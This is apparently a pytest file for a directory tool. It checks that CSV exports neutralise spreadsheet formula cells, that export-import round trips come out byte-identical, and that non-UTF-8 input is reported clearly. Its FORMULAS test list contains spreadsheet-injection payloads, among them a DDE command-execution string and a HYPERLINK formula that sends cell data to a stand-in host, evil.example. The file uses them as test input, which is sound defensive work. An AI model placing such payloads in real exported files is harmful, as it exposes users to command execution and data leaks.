"""Issue 10, items 4 and 9: CSV export neutralises formula cells and import reads them back;
export -> import -> export is byte-identical (empty lists included); an exported CSV
validates; a file that is not UTF-8 gets one line naming the file and line."""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest

from directory.fileformats import flatten, guard, read_items, unflatten, unguard, write_csv
from tests.directory.test_cli import smedir, write_config

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)",
    "+1-2",
    "-2+3",
    "\t=1+1",
    "'=already quoted",
    "'plain apostrophe",
    "''two",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "", "'", "a=b", "ក=ខ"])
def test_guard_makes_text_inert_and_unguard_gives_it_back(text):
    cell = guard(text)
    assert not cell.startswith(TRIGGERS)
    assert unguard(cell) == text


def _formula_record(record_doc: dict, n: int) -> dict:
    doc = copy.deepcopy(record_doc)
    doc.update(id=f"kh:formula-{n}", origin="kh", version=3)
    doc["names"] = {"en": FORMULAS[n % len(FORMULAS)].replace("\t", ""), "km": "ហាង =1+1"}
    doc["registration"] = {**doc["registration"], "number": "+1-2"}
    doc["address"] = {**doc["address"], "street": "@SUM(1+1)", "district": "-2+3 "}
    doc["address"]["commune"] = "'quoted"
    doc["descriptions"] = {"en": "\t=1+1\nsecond line ", "km": " ខ្មែរ"}
    doc["products"] = [{"name": '=HYPERLINK("x")', "description": "@x"}]
    doc["contact"] = {"phone": "+85512345678"}
    doc["geo"] = {"lat": -12, "lon": 104.5}
    doc["sharing"] = {**doc["sharing"], "peers": []}
    doc["export_markets"] = []
    return doc


def test_flatten_writes_no_cell_a_spreadsheet_would_run(record_doc):
    row = flatten(_formula_record(record_doc, 0))
    for column, cell in row.items():
        if column not in ("geo.lat", "geo.lon"):
            assert not cell.startswith(TRIGGERS), (column, cell)
    assert row["geo.lat"] == "-12"  # numbers are numbers
    assert row["names.en"] == "'=cmd|' /C calc'!A0" and row["contact.phone"] == "'+85512345678"
    assert row["sharing.peers"] == "[]" and row["export_markets"] == "[]"


def test_every_formula_record_reads_back_as_written(record_doc):
    docs = [_formula_record(record_doc, n) for n in range(len(FORMULAS))]
    buffer = io.StringIO()
    write_csv(docs, buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert [unflatten(r) for r in rows] == docs


def _export(config, fmt: str, out):
    result = smedir("export", "--format", fmt, "--config", str(config), "-o", str(out))
    assert result.returncode == 0, result.stderr
    return out.read_bytes()


def test_csv_export_import_export_is_byte_identical(tmp_path, db_url, record_doc):
    config = write_config(tmp_path, db_url)
    assert smedir("init", "--config", str(config)).returncode == 0
    docs = [_formula_record(record_doc, n) for n in range(len(FORMULAS))]
    source = tmp_path / "records.jsonl"
    source.write_text("".join(json.dumps(d) + "\n" for d in docs), encoding="utf-8")
    loaded = smedir("import", str(source), "--config", str(config))
    assert f"created {len(docs)}" in loaded.stdout, loaded.stdout + loaded.stderr
    first = _export(config, "csv", tmp_path / "first.csv")
    for line in first.decode().splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@")), cell
    stored = [
        json.loads(ln) for ln in _export(config, "jsonl", tmp_path / "all.jsonl").splitlines()
    ]
    read_back = [item.document for item in read_items(tmp_path / "first.csv")]
    assert read_back == stored  # the CSV holds exactly the stored records
    checked = smedir("validate", str(tmp_path / "first.csv"))
    assert checked.returncode == 0, checked.stdout + checked.stderr  # empty lists included
    again = smedir("import", str(tmp_path / "first.csv"), "--config", str(config))
    assert f"unchanged {len(docs)}" in again.stdout, again.stdout + again.stderr
    assert _export(config, "csv", tmp_path / "second.csv") == first


def test_non_utf8_files_get_one_line_naming_file_and_line(tmp_path, db_url, record_doc):
    config = write_config(tmp_path, db_url)
    assert smedir("init", "--config", str(config)).returncode == 0
    docs = []
    for n in range(3):
        doc = {k: v for k, v in record_doc.items() if k not in ("id", "origin", "version")}
        doc.pop("updated_at", None)
        doc["registration"] = {**doc["registration"], "number": f"ENC-{n}"}
        doc["names"] = {"en": f"Café {n}"}
        docs.append(doc)
    text = io.StringIO()
    write_csv(docs[:1], text)
    head = text.getvalue().encode("utf-8")
    text = io.StringIO()
    write_csv(docs[1:], text)
    tail = text.getvalue().split("\r\n", 1)[1].encode("cp1252")  # Excel's "CSV" on Windows
    path = tmp_path / "latin1.csv"
    path.write_bytes(head + tail)
    checked = smedir("validate", str(path))
    assert checked.returncode == 1 and "Traceback" not in checked.stderr
    [line] = [ln for ln in checked.stdout.splitlines() if "UTF-8" in ln]
    assert line.startswith(f"{path}:3 ") and "byte 0xe9" in line
    imported = smedir("import", str(path), "--config", str(config))
    assert imported.returncode == 1 and "Traceback" not in imported.stderr
    assert f"{path}:3: not UTF-8 text (byte 0xe9" in imported.stderr
    assert "created 1, rejected 1" in imported.stdout, imported.stdout
    [reject] = [
        json.loads(x) for x in (tmp_path / "latin1.csv.rejects.jsonl").read_text().splitlines()
    ]
    assert reject["line"] == 3 and "UTF-8" in reject["errors"][0]["message"]
    jsonl = tmp_path / "latin1.jsonl"
    jsonl.write_bytes(b'{"a": 1}\n' + '{"names": {"en": "Café"}}\n'.encode("cp1252"))
    checked = smedir("validate", str(jsonl))
    assert "Traceback" not in checked.stderr and f"{jsonl}:2 / not UTF-8" in checked.stdout
